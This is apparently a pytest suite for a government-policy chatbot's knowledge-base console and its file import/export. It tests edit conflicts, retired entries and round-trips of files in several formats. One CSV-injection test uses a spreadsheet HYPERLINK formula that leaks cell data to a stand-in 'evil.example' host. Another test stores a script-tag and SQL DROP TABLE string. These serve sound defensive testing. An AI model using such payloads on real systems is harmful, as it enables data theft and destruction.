"""Knowledge base as staff keep it: two staff editing at once, files that go out and come back, retired entries."""

from __future__ import annotations

import csv
import dataclasses
import re

import pytest

from knowledge.loaders import dump_file, load_file
from knowledge.schema import Entry
from wxapp_backend.knowledge_store import services
from wxapp_backend.knowledge_store.cli import load_default_if_empty
from wxapp_backend.knowledge_store.models import KBEntry


@pytest.fixture
def kb(app_ctx):
    load_default_if_empty()
    runtime = services.get_runtime()
    runtime.check_interval = 0  # see edits at once in tests
    return runtime


def _form(page: str) -> dict[str, str]:
    """The hidden fields of a console form as the browser would send them back."""
    return dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page))


def test_a_second_staff_member_saving_an_older_copy_does_not_overwrite_the_first_ones_edit(
        client, kb, make_staff, console_login, db):
    """Two staff open the same entry; one fixes the answer and saves, the other then saves the question from the
    page they opened earlier. The second save wrote the whole old form back, silently undoing the first fix
    (and a phrasing added from the unanswered queue meanwhile). It is now refused with a 409 that says why."""
    first, second = make_staff(role="staff"), make_staff(role="staff")
    console_login(first)
    page_first = client.get("/console/kb/talent-foreign-work-permit/edit").get_data(as_text=True)
    console_login(second)
    page_second = client.get("/console/kb/talent-foreign-work-permit/edit").get_data(as_text=True)
    row = db.get(KBEntry, "talent-foreign-work-permit")
    base = {"question": row.question, "answer": row.answer, "similar": "\n".join(row.similar),
            "category": row.category, "tags": ", ".join(row.tags)}

    console_login(first)
    saved = client.post("/console/kb/talent-foreign-work-permit/edit",
                        data={**base, **_form(page_first), "csrf_token": _form(client.get("/console/kb/").get_data(
                            as_text=True))["csrf_token"], "answer": "第一位同事更新后的答案。"})
    assert saved.status_code == 302
    console_login(second)
    stale = client.post("/console/kb/talent-foreign-work-permit/edit",
                        data={**base, **_form(page_second), "csrf_token": _form(client.get("/console/kb/").get_data(
                            as_text=True))["csrf_token"], "question": "第二位同事改的问题"})
    assert stale.status_code == 409, stale.status_code
    assert "其他同事" in stale.get_data(as_text=True)
    db.expire_all()
    row = db.get(KBEntry, "talent-foreign-work-permit")
    assert row.answer == "第一位同事更新后的答案。" and row.question == base["question"]


def test_importing_a_spreadsheet_without_the_retired_column_keeps_withdrawn_entries_offline(app, kb, tmp_path,
                                                                                            db, client):
    """A withdrawn policy is taken offline with 下线; a colleague then imports the team's master spreadsheet (no
    已下线 column, as the README's columns go) to add one entry. The import read the missing column as "not
    retired" and put the withdrawn policy back in front of users. Restoring is the console's 恢复, as for an edit."""
    state = app.extensions["wxapp"]
    from wxapp_backend.audit import SYSTEM
    from wxapp_backend.db import session_scope

    with session_scope() as s:
        services.set_retired(s, state.redis, SYSTEM, "talent-foreign-work-permit", True)
    row = db.get(KBEntry, "talent-foreign-work-permit")
    sheet = tmp_path / "master.csv"
    with sheet.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([("id", "question", "answer"),
                                 ("talent-foreign-work-permit", row.question, row.answer + "（已核对）"),
                                 ("new-from-master", "新条目的问题", "新条目的答案")])
    result = app.test_cli_runner().invoke(args=["kb", "import", str(sheet)])
    assert result.exit_code == 0, result.output
    assert "保持下线" in result.output, result.output
    db.expire_all()
    row = db.get(KBEntry, "talent-foreign-work-permit")
    assert row.retired is True and row.answer.endswith("（已核对）")
    body = client.post("/api/v1/chat", json={"text": "外籍人才工作许可怎么办"}).get_json()
    assert body["entry_id"] != "talent-foreign-work-permit", body


@pytest.mark.parametrize("ext", [".xlsx", ".csv", ".yaml", ".jsonl"])
def test_an_answer_written_in_the_console_comes_back_unchanged_from_an_export(app, client, kb, make_staff,
                                                                               console_login, db, tmp_path, ext):
    """A browser sends a textarea's line breaks as CRLF. The console kept them, an .xlsx gives them back as LF, so
    exporting and importing the same file reported the entry as updated (a new revision, an audit row whose
    from/to differ by invisible characters). Entries hold LF line breaks whichever way they come in."""
    token = console_login(make_staff(role="staff"))
    resp = client.post("/console/kb/new", data={
        "csrf_token": token, "id": "multi-line", "question": "多行答案 <b>&amp; 😀",
        "answer": "第一步：登录一网通办。\r\n第二步：上传材料。\r\n\r\n<script>alert(1)</script> '; DROP TABLE kb_entries;--",
        "similar": "问法一\r\n问法二", "conditions": "条件一\r\n条件二", "valid_until": "2099-12-31"})
    assert resp.status_code == 302
    assert "\r" not in db.get(KBEntry, "multi-line").answer
    out = tmp_path / f"kb{ext}"
    assert app.test_cli_runner().invoke(args=["kb", "export", str(out)]).exit_code == 0
    result = app.test_cli_runner().invoke(args=["kb", "import", str(out)])
    assert "新增 0 条，更新 0 条" in result.output, result.output


def test_a_jsonl_export_of_text_pasted_from_a_web_page_imports_again(tmp_path):
    """Text copied from a web page or PDF can hold U+2028 / U+2029 (line and paragraph separators). JSON keeps them
    unescaped inside a string, but the reader split lines on them too, so the exported .jsonl could not be
    imported again (JSON 格式错误 on that entry and the half-line after it). JSON Lines are split on \\n only."""
    entry = Entry(id="pasted", question="从网页复制的问题", answer="第一段\u2028第二段\u2029第三段",
                  similar=("网页问法\u2028",), issuer="区\u2028人社局")
    out = tmp_path / "kb.jsonl"
    dump_file([entry], out)
    assert load_file(out, strict=True) == [Entry(id="pasted", question="从网页复制的问题",
                                                 answer="第一段\u2028第二段\u2029第三段",
                                                 similar=("网页问法",), issuer="区\u2028人社局")]


def test_an_xlsx_formula_saved_without_its_result_is_refused_not_imported_as_empty(app, kb, tmp_path, db):
    """A workbook written by a program (not by Excel or WPS) keeps a formula without its computed value, which the
    loader read as an empty cell: the entry's phrasings and category were imported as nothing, without a word.
    Such a file is refused naming the cell, nothing changed; formulas saved with their result import as before."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["id", "question", "answer", "similar", "category"])
    sheet.append(["formula-entry", "公式生成的条目", "答案", '=CONCATENATE("问法","一")', "政策"])
    path = tmp_path / "generated.xlsx"
    book.save(path)
    result = app.test_cli_runner().invoke(args=["kb", "import", str(path)])
    assert result.exit_code != 0 and "D2" in result.output and "公式" in result.output, result.output
    assert db.get(KBEntry, "formula-entry") is None


def test_the_entry_page_never_shows_a_lapsed_policy_as_current(app, client, kb):
    """The mini-program's entry page (GET /api/v1/kb/entries/<id>, opened from a result or a shared link) gave a
    policy whose 截止日期 had passed in full, like a current one; the chat and the search never offer it. It now
    answers as for a retired entry, saying when the policy ended; a policy not yet in force likewise."""
    from datetime import timedelta

    from wxapp_backend.audit import SYSTEM
    from wxapp_backend.db import session_scope

    today = services.today_shanghai()
    with session_scope() as s:
        for entry in (Entry(id="ended", question="已结束的补贴怎么申请", answer="向区里申请。",
                            valid_until=today - timedelta(days=1)),
                      Entry(id="not-yet", question="明年的补贴怎么申请", answer="向区里申请。",
                            valid_from=today + timedelta(days=30)),
                      Entry(id="ends-today", question="今天截止的补贴怎么申请", answer="向区里申请。",
                            valid_until=today)):
            services.save_entry(s, app.extensions["wxapp"].redis, SYSTEM, entry, create=True)
    ended = client.get("/api/v1/kb/entries/ended")
    assert ended.status_code == 404 and str(today - timedelta(days=1)) in ended.get_json()["message"]
    not_yet = client.get("/api/v1/kb/entries/not-yet")
    assert not_yet.status_code == 404 and str(today + timedelta(days=30)) in not_yet.get_json()["message"]
    assert client.get("/api/v1/kb/entries/ends-today").status_code == 200


def test_saving_an_entry_with_a_long_id_lands_on_its_list_page_not_an_error(client, kb, make_staff, console_login):
    """After 保存 the console shows the list searched by the entry's id; ids take 128 characters but the list's
    search took 100, so saving an entry with a longer id (allowed) ended on a 422 error page, as if it had failed."""
    token = console_login(make_staff(role="staff"))
    long_id = "policy-" + "x" * 121
    saved = client.post("/console/kb/new", data={"csrf_token": token, "id": long_id, "question": "长编号的条目",
                                                 "answer": "答案"})
    assert saved.status_code == 302
    listed = client.get(saved.headers["Location"])
    assert listed.status_code == 200 and long_id in listed.get_data(as_text=True)


@pytest.mark.parametrize("answer", ["'hello' 是英文问候", "可选 'a','b','c' 三种方式"])
def test_text_in_single_quotes_comes_back_from_a_csv_unchanged(tmp_path, answer):
    """The .csv reader let csv.Sniffer guess the quote character from the file's first 4 KB; an answer holding text
    in ASCII single quotes made it take ' for the quote, so the export came back changed without a word: quotes
    dropped, or the answer split into the next columns (category, tags). Only the delimiter is guessed now, from
    the header row; quoting is the standard ", as every spreadsheet writes it."""
    entries = [Entry(id="quoted", question="单引号的问题", answer=answer, similar=("'x'",), category="c"),
               Entry(id="second", question="第二个问题", answer="'a','b'", tags=("t",))]
    out = tmp_path / "kb.csv"
    dump_file(entries, out)
    assert load_file(out, strict=True) == entries


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_with_semicolons_or_tabs_still_loads(tmp_path, delimiter):
    out = tmp_path / "kb.csv"
    out.write_text(delimiter.join(["编号", "问题", "答案"]) + "\n"
                   + delimiter.join(["d1", "问题一", '"答案, 含 ; 和 \t 分隔符"']) + "\n", encoding="utf-8")
    assert load_file(out, strict=True) == [Entry(id="d1", question="问题一", answer="答案, 含 ; 和 \t 分隔符")]


def test_a_csv_export_does_not_hand_excel_a_users_formula_and_still_round_trips(app, client, kb, make_staff,
                                                                                 console_login, db, tmp_path):
    """A question typed in the chat reaches an entry's phrasings in one click from the unanswered queue; exported
    to .csv, a cell starting with = + - @ is run by Excel or WPS as a formula on the staff PC (CSV injection), as
    the appeal and enterprise exports already guard against. Such cells now start with ', which the import removes,
    so the file still comes back unchanged."""
    token = console_login(make_staff(role="staff"))
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")'
    client.post("/api/v1/chat", json={"text": hostile})
    from wxapp_backend.knowledge_store.models import UnansweredQuestion

    qid = db.query(UnansweredQuestion).filter_by(text=hostile).one().id
    assert client.post("/console/kb/new", data={
        "csrf_token": token, "id": "formula-target", "question": "-5% 的贷款贴息怎么申请", "answer": "@SUM(1,2) 见链接",
        "issuer": "+区金融办", "window": "'=每年 3 月"}).status_code == 302
    assert client.post(f"/console/kb/unanswered/{qid}/phrasing",
                       data={"csrf_token": token, "entry_id": "formula-target"}).status_code == 302
    out = tmp_path / "kb.csv"
    assert app.test_cli_runner().invoke(args=["kb", "export", str(out)]).exit_code == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
    result = app.test_cli_runner().invoke(args=["kb", "import", str(out)])
    assert "新增 0 条，更新 0 条" in result.output, result.output
    row = db.get(KBEntry, "formula-target")
    assert (row.question, row.answer, row.similar, row.issuer, row.window) == (
        "-5% 的贷款贴息怎么申请", "@SUM(1,2) 见链接", [hostile], "+区金融办", "'=每年 3 月")


def test_a_policy_not_yet_in_force_is_not_called_expired(app, client, kb):
    """A policy entered ahead of time (生效日期 next month) is not answered yet, rightly; but the bot told the asker
    “已经过了有效期（截至 <a date next year>），目前不再受理” — a policy that has not even started, called ended.
    It now says from when the policy applies; a policy that has ended still gets the ended note."""
    from datetime import timedelta

    from wxapp_backend.audit import SYSTEM
    from wxapp_backend.db import session_scope

    today = services.today_shanghai()
    starts, ends = today + timedelta(days=30), today + timedelta(days=365)
    entry = Entry(id="next-year-subsidy", question="青浦区跨年度数字化转型专项补贴怎么申请", answer="向区经委申请。",
                  valid_from=starts, valid_until=ends)
    with session_scope() as s:
        services.save_entry(s, app.extensions["wxapp"].redis, SYSTEM, entry, create=True)
    body = client.post("/api/v1/chat", json={"text": entry.question}).get_json()
    assert body["entry_id"] != "next-year-subsidy", body
    assert "过了有效期" not in body["reply"] and starts.isoformat() in body["reply"], body["reply"]
    ended = dataclasses.replace(entry, valid_from=today - timedelta(days=365), valid_until=today - timedelta(days=2))
    with session_scope() as s:
        services.save_entry(s, app.extensions["wxapp"].redis, SYSTEM, ended, create=False)
    body = client.post("/api/v1/chat", json={"text": entry.question}).get_json()
    assert "过了有效期" in body["reply"] and ended.valid_until.isoformat() in body["reply"], body["reply"]


def test_the_console_list_does_not_show_a_policy_not_yet_in_force_as_online(client, kb, make_staff, console_login):
    """The list's 状态 showed 在线 for an entry whose 生效日期 is still ahead, which the bot does not answer yet
    (已过期 was shown only for an ended one), so staff could not tell why users got no answer."""
    from datetime import timedelta

    token = console_login(make_staff(role="staff"))
    starts = services.today_shanghai() + timedelta(days=10)
    assert client.post("/console/kb/new", data={"csrf_token": token, "id": "starts-soon", "question": "下月起的补贴",
                                                "answer": "答案", "valid_from": starts.isoformat()}).status_code == 302
    page = client.get("/console/kb/?q=starts-soon").get_data(as_text=True)
    row = page[page.index("<code>starts-soon</code>"):]
    row = row[:row.index("</tr>")]
    assert "未生效" in row and "在线" not in row, row


@pytest.mark.parametrize("ext", [".csv", ".xlsx"])
def test_a_question_with_a_bar_added_from_the_queue_does_not_stop_table_exports(app, client, kb, make_staff,
                                                                                console_login, db, tmp_path, ext):
    """“股票｜基金会涨吗” typed in the chat, added as a phrasing in one click from the unanswered queue: every later
    kb export to .csv or .xlsx then stopped (含有分隔符 “|”，无法导出为表格) until someone found and edited the entry.
    The bar is a list separator in those files: they write it “\\|” (session 18), so the phrasing keeps it as asked
    (session 19; it was made a space), on one line (the console's form reads one phrasing a line)."""
    token = console_login(make_staff(role="staff"))
    asked = "明天股票｜基金会\n涨吗"
    client.post("/api/v1/chat", json={"text": asked})
    from wxapp_backend.knowledge_store.models import UnansweredQuestion

    qid = db.query(UnansweredQuestion).filter_by(text=asked).one().id
    assert client.post(f"/console/kb/unanswered/{qid}/phrasing",
                       data={"csrf_token": token, "entry_id": "talent-foreign-work-permit"}).status_code == 302
    db.expire_all()
    assert "明天股票｜基金会 涨吗" in db.get(KBEntry, "talent-foreign-work-permit").similar
    result = app.test_cli_runner().invoke(args=["kb", "export", str(tmp_path / f"kb{ext}")])
    assert result.exit_code == 0, result.output


def test_a_csv_with_an_unclosed_quote_is_refused_in_chinese_not_read_as_one_long_answer(app, kb, tmp_path, db):
    """An answer opened with " and never closed swallowed every row after it: kb import reported success, that
    entry's answer held the next rows' text and those entries were never imported. A stray quote (“"a"b”) was
    quietly read as ab, and an over-long cell was refused in the csv module's English. Such files are refused
    now, the cause said in Chinese, nothing changed."""
    unclosed = tmp_path / "unclosed.csv"
    unclosed.write_text('id,question,answer\nq-1,营业执照怎么补办,"先登报声明\nq-2,公章丢了怎么办,先报警\n',
                        encoding="utf-8")
    stray = tmp_path / "stray.csv"
    stray.write_text('id,question,answer\nq-3,"税务"登记怎么办,到税务局\n', encoding="utf-8")
    huge = tmp_path / "huge.csv"
    huge.write_text("id,question,answer\nq-4,很长的答案," + "长" * 140_000 + "\n", encoding="utf-8")
    for path in (unclosed, stray, huge):
        result = app.test_cli_runner().invoke(args=["kb", "import", str(path)])
        assert result.exit_code != 0 and "未改动" in result.output, (path.name, result.output)
        said = result.output.replace("Error:", "").replace(path.name, "")  # Click's own prefix
        assert "CSV 格式错误" in said and not re.search(r"[A-Za-z]{4,}", said), result.output
    assert db.query(KBEntry).filter(KBEntry.id.in_(["q-1", "q-2", "q-3", "q-4"])).count() == 0


@pytest.mark.parametrize(("name", "text"), [
    ("twice.yaml", "- id: dup-key\n  question: 公章丢了怎么办\n  answer: 先登报声明作废，再到公安备案重刻。\n"
                   "  category: 企业服务\n  answer: 见上\n"),
    ("twice.jsonl", '{"id": "dup-key", "question": "公章丢了怎么办", "answer": "先登报声明作废，再到公安备案重刻。", '
                    '"answer": "见上"}\n'),
    ("policy.yaml", "- id: dup-key\n  question: 公章丢了怎么办\n  answer: 先登报\n  policy:\n"
                    "    valid_until: 2030-12-31\n    valid_until: 2020-12-31\n"),
])
def test_a_field_written_twice_in_one_entry_is_refused_not_half_lost(tmp_path, name, text):
    """A field pasted twice into one entry of a .yaml or .jsonl file (the second “answer” a leftover draft) was
    read as the last one alone, the real answer dropped without a word. It is refused now, naming the field."""
    from knowledge.loaders import KBLoadError

    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    with pytest.raises(KBLoadError) as err:
        load_file(path, strict=True)
    assert "两次" in str(err.value) and ("answer" in str(err.value) or "valid_until" in str(err.value)), err.value


@pytest.mark.parametrize(("name", "text"), [
    ("colon.yaml", "- id: x\n  question: 公章丢了: 怎么办\n  answer: 先登报\n"),
    ("tab.yaml", "- id: x\n\tquestion: 公章丢了怎么办\n"),
    ("quote.yaml", "- id: x\n  question: '公章丢了怎么办\n"),
    ("indent.yaml", "- id: x\n  question: 公章丢了怎么办\n - answer: 先登报\n"),
    ("star.yaml", "- id: x\n  question: *重要* 公章丢了怎么办\n"),
    ("quote.jsonl", '{"id": "x", "question": "公章丢了怎么办", "answer": "先登报\n'),
    ("single.jsonl", "{'id': 'x', 'question': '公章丢了怎么办'}\n"),
    ("comma.jsonl", '{"id": "x" "question": "公章丢了怎么办"}\n'),
    ("extra.jsonl", '{"id": "x", "question": "公章丢了怎么办", "answer": "先登报"} 备注\n'),
])
def test_a_broken_yaml_or_jsonl_file_is_explained_in_chinese(tmp_path, name, text):
    """A broken .yaml or .jsonl was reported with the parser's English (mapping values are not allowed here,
    found character '\\t' that cannot start any token, Expecting ',' delimiter, Extra data ...), which staff
    cannot act on. The line and column stay, the cause is said in Chinese."""
    from knowledge.loaders import KBLoadError

    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    with pytest.raises(KBLoadError) as err:
        load_file(path, strict=True)
    said = re.sub(r"YAML|JSON|Tab", "", "\n".join(err.value.errors).replace(name, ""))
    assert "格式错误" in said and "第 " in said and not re.search(r"[A-Za-z]{3,}", said), said


@pytest.mark.parametrize("content", [b"id,question,answer\nx,q,a\n", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
                                     b"PK\x03\x04broken"])
def test_a_file_that_is_not_really_an_xlsx_is_explained_in_chinese(tmp_path, content):
    """A CSV renamed to .xlsx, an old .xls renamed, or a damaged download: the import said
    “无法读取 Excel 文件：File is not a zip file” (openpyxl's English). It now says what to do, in Chinese."""
    from knowledge.loaders import KBLoadError

    path = tmp_path / "kb.xlsx"
    path.write_bytes(content)
    with pytest.raises(KBLoadError) as err:
        load_file(path, strict=True)
    said = "\n".join(err.value.errors)
    assert "另存为 .xlsx" in said and not re.search(r"zip|File|support|Error|not |format", said), said


def test_the_useful_share_covers_the_same_30_days_as_the_other_figures(client, kb, db, make_staff, console_login):
    """The console's figures are for the last 30 days, but 有用率 counted every vote ever cast: answers fixed since
    kept the 没用 votes they got before the fix, and the share could not show the improvement."""
    from datetime import timedelta

    from wxapp_backend.db import utcnow
    from wxapp_backend.knowledge_store.models import AnswerFeedback

    old = [AnswerFeedback(entry_id="talent-foreign-work-permit", useful=False, created_at=utcnow() - timedelta(days=90))
           for _ in range(3)]
    db.add_all([*old, AnswerFeedback(entry_id="talent-foreign-work-permit", useful=True)])
    db.commit()
    rates = services.answer_rates(db, since=utcnow() - timedelta(days=30))
    assert (rates["votes"], rates["useful_rate"]) == (1, 1.0), rates
    console_login(make_staff(role="staff"))
    page = client.get("/console/kb/").get_data(as_text=True)
    assert "100%" in page and "（1）" in page


def test_the_audit_log_finds_the_edits_of_an_entry_with_a_long_id(client, kb, make_staff, console_login):
    """Entry ids take 128 characters and their audit rows keep them whole, but the 操作日志 filter took an object
    id of 64 at most: asking who changed such an entry answered “对象编号不能超过 64 个字” and listed nothing."""
    token = console_login(make_staff(role="admin"))
    long_id = "policy-" + "y" * 93
    assert client.post("/console/kb/new", data={"csrf_token": token, "id": long_id, "question": "长编号条目的问题",
                                                "answer": "答案"}).status_code == 302
    page = client.get("/console/audit", query_string={"target_id": long_id})
    assert page.status_code == 200 and "kb.entry_created" in page.get_data(as_text=True)


def test_staff_trying_the_bot_in_the_console_do_not_fill_the_unanswered_queue_or_the_figures(
        client, kb, db, make_staff, console_login, standin):
    """对话测试 sends staff's test questions through the real webhook as a follower, so each one was counted as an
    enterprise's question: odd questions tried out landed in the 未答问题 queue as if users had asked them, and
    the tries moved the answer-rate figures. They are logged on the console channel, outside both."""
    from wxapp_backend.knowledge_store.models import ChatTurn, UnansweredQuestion

    csrf = console_login(make_staff(role="staff"))
    for text in ("明天股票会涨吗", "外籍人才工作许可怎么办"):
        assert client.post("/console/chat", data={"text": text, "csrf_token": csrf}).status_code == 302
    assert db.query(UnansweredQuestion).count() == 0
    assert [t.channel for t in db.query(ChatTurn).all()] == ["console", "console"]  # both logged, as the console's
    from datetime import timedelta

    from wxapp_backend.db import utcnow

    assert services.answer_rates(db, since=utcnow() - timedelta(days=30))["asked"] == 0


def test_a_hand_written_yaml_keeps_values_as_written(tmp_path):
    """YAML turns some unquoted values into numbers or yes/no: id 0123 became “83” (read as octal) and 1.10 became
    “1.1”, so an import created a new entry instead of updating 0123 (and --replace took 0123 offline); a
    question or answer reading yes / no / on / off became “True” / “False”. Values are now read as written."""
    path = tmp_path / "kb.yaml"
    path.write_text("- id: 0123\n  question: 'yes'\n  answer: 1.10\n  similar: [yes, 007]\n  tags: [on]\n"
                    "  retired: false\n"
                    "- id: 1.10\n  question: 营业执照怎么办\n  answer: no\n  retired: no\n"
                    "  policy:\n    window: 2024\n    valid_until: ~\n", encoding="utf-8")
    first, second = load_file(path, strict=True)
    assert (first.id, first.question, first.answer, first.similar, first.tags, first.retired) == (
        "0123", "yes", "1.10", ("yes", "007"), ("on",), False)
    assert (second.id, second.answer, second.retired, second.window, second.valid_until) == (
        "1.10", "no", False, "2024", None)


def test_an_entry_taken_offline_by_an_imported_file_has_its_own_audit_row(app, kb, tmp_path, db):
    """A file whose 已下线 column says 是 took the entry offline, but the audit log called it kb.entry_updated
    (fields: retired) and the summary counted it as 更新: looking for kb.entry_retired, as 下线 and --replace
    write it, an admin could not find who took the policy offline."""
    from wxapp_backend.audit import SYSTEM, AuditLog
    from wxapp_backend.db import session_scope

    with session_scope() as s:
        row = services.save_entry(s, app.extensions["wxapp"].redis, SYSTEM, Entry(
            id="to-go-offline", question="旧的补贴政策", answer="已经停止。"), create=True)
    sheet = tmp_path / "offline.csv"
    with sheet.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([("id", "question", "answer", "已下线"), ("to-go-offline", "旧的补贴政策", "已经停止。", "是")])
    row = db.get(KBEntry, "to-go-offline")
    result = app.test_cli_runner().invoke(args=["kb", "import", str(sheet)])
    assert result.exit_code == 0 and "下线 1 条" in result.output, result.output
    db.expire_all()
    assert db.get(KBEntry, row.id).retired is True
    actions = [a.action for a in db.query(AuditLog).filter_by(target_id=row.id).all()]
    assert "kb.entry_retired" in actions and "kb.entry_updated" not in actions, actions


@pytest.mark.parametrize("ext", [".csv", ".xlsx"])
def test_a_spreadsheet_with_only_the_required_columns_leaves_the_other_fields_alone(app, kb, tmp_path, db, client,
                                                                                     ext):
    """The README asks for the columns id, question, answer, the rest optional. A sheet of just those three (to fix
    some answers) emptied every other field of the entries in it: their phrasings, category, tags and policy
    fields, 截止日期 among them, so a policy that had ended was answered as current again. A column the file does
    not have now leaves that field as it is; a column present and empty still empties it."""
    import openpyxl

    from wxapp_backend.audit import SYSTEM
    from wxapp_backend.db import session_scope

    with session_scope() as s:
        services.save_entry(s, app.extensions["wxapp"].redis, SYSTEM, Entry(
            id="ended-grant", question="青浦区往年数字化转型补贴怎么申请", answer="向区经委申请。",
            similar=("青浦数字化补贴申请",), category="惠企政策", tags=("补贴",), issuer="区经委",
            valid_until=services.today_shanghai().replace(year=2021)), create=True)
    rows = [("id", "question", "answer", "category"),
            ("ended-grant", "青浦区往年数字化转型补贴怎么申请", "向区经委申请（已核对）。", "")]
    sheet = tmp_path / f"fix{ext}"
    if ext == ".csv":
        with sheet.open("w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows(rows)
    else:
        book = openpyxl.Workbook()
        for r in rows:
            book.active.append(r)
        book.save(sheet)
    result = app.test_cli_runner().invoke(args=["kb", "import", str(sheet)])
    assert result.exit_code == 0 and "更新 1 条" in result.output, result.output
    db.expire_all()
    row = db.get(KBEntry, "ended-grant")
    assert row.answer == "向区经委申请（已核对）。" and row.category == ""  # present: taken as written
    assert (row.similar, row.tags, row.issuer, row.valid_until.year) == (["青浦数字化补贴申请"], ["补贴"], "区经委", 2021)
    body = client.post("/api/v1/chat", json={"text": "青浦区往年数字化转型补贴怎么申请"}).get_json()
    assert body["entry_id"] != "ended-grant", body


def test_tags_typed_with_a_chinese_comma_are_separate_tags(client, kb, make_staff, console_login, db):
    """The form says 标签“用逗号分隔”; typed on a Chinese keyboard that comma is “，”, which was not a separator, so
    “补贴，人才，融资” became one tag with the commas in it."""
    token = console_login(make_staff(role="staff"))
    assert client.post("/console/kb/new", data={"csrf_token": token, "id": "tagged", "question": "问题", "answer": "答案",
                                                "tags": "补贴，人才、融资,  贷款｜担保"}).status_code == 302
    assert db.get(KBEntry, "tagged").tags == ["补贴", "人才", "融资", "贷款", "担保"]


def test_restoring_an_ended_policy_says_the_bot_still_will_not_answer_it(client, kb, make_staff, console_login, db):
    """恢复 on an entry whose 截止日期 has passed said “已恢复上线。”; the bot still does not answer it (rightly), so
    staff were left wondering why the restored policy got no answers. The message now says why and what to do."""
    token = console_login(make_staff(role="staff"))
    assert client.post("/console/kb/new", data={"csrf_token": token, "id": "old-grant", "question": "往年的补贴",
                                                "answer": "答案", "valid_until": "2021-12-31"}).status_code == 302
    for retire in ("1", "0"):
        assert client.post("/console/kb/old-grant/retire", data={"csrf_token": token, "retire": retire},
                           follow_redirects=False).status_code == 302
    page = client.get("/console/kb/").get_data(as_text=True)
    assert "2021-12-31" in page and "截止日期" in page, page[page.find('class="flash"') - 10:][:300]


def test_the_same_edit_sent_twice_is_saved_once_without_a_false_alarm(client, kb, make_staff, console_login, db):
    """A double click on 保存 (or the browser resending the form) sends the same edit twice; the second came with
    the revision the first had just moved past and was refused as a colleague's conflicting edit, telling staff
    their save had failed when it had not. A resend that changes nothing more is accepted as it is."""
    console_login(make_staff(role="staff"))
    page = client.get("/console/kb/talent-foreign-work-permit/edit").get_data(as_text=True)
    row = db.get(KBEntry, "talent-foreign-work-permit")
    before = row.revision
    form = {**_form(page), "question": row.question, "answer": "改过的答案。", "similar": "\n".join(row.similar),
            "category": row.category, "tags": ", ".join(row.tags)}
    codes = [client.post("/console/kb/talent-foreign-work-permit/edit", data=form).status_code for _ in range(2)]
    assert codes == [302, 302], codes
    db.expire_all()
    assert db.get(KBEntry, "talent-foreign-work-permit").revision == before + 1


def test_a_sheet_headed_with_the_consoles_own_labels_is_understood(tmp_path):
    """Staff head a sheet with the names the console's form shows; every one was understood except 原文链接 (the
    form's label for the link), which was left out as an unknown column, so the links were not imported."""
    from wxapp_backend.knowledge_store.console import ENTRY_FIELDS

    path = tmp_path / "kb.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([[field.label for field in ENTRY_FIELDS],
                                 ["p1", "问题", "问法", "答案", "分类", "标签", "区经委", "企业", "条件", "全年", "补贴",
                                  "线上", "https://example.gov.cn/p1", "2024-01-01", "2030-12-31"]])
    (entry,) = load_file(path, strict=True)
    assert entry.url == "https://example.gov.cn/p1" and entry.valid_until.year == 2030


def test_a_next_line_character_survives_a_yaml_export(tmp_path):
    """U+0085 (NEL, what a cp1252 “…” becomes when text is decoded wrongly, kept by the console and the chat) came
    back from kb export x.yaml as a space or a line break: PyYAML writes it raw in a quoted scalar and reads it as
    a line break. Such text is now written escaped (double quotes), so it comes back as it was."""
    entry = Entry(id="nel", question="问题\x85续", answer="第一行\n第二\x85行", similar=("问法\x85一",))
    out = tmp_path / "kb.yaml"
    dump_file([entry], out)
    assert load_file(out, strict=True) == [entry]
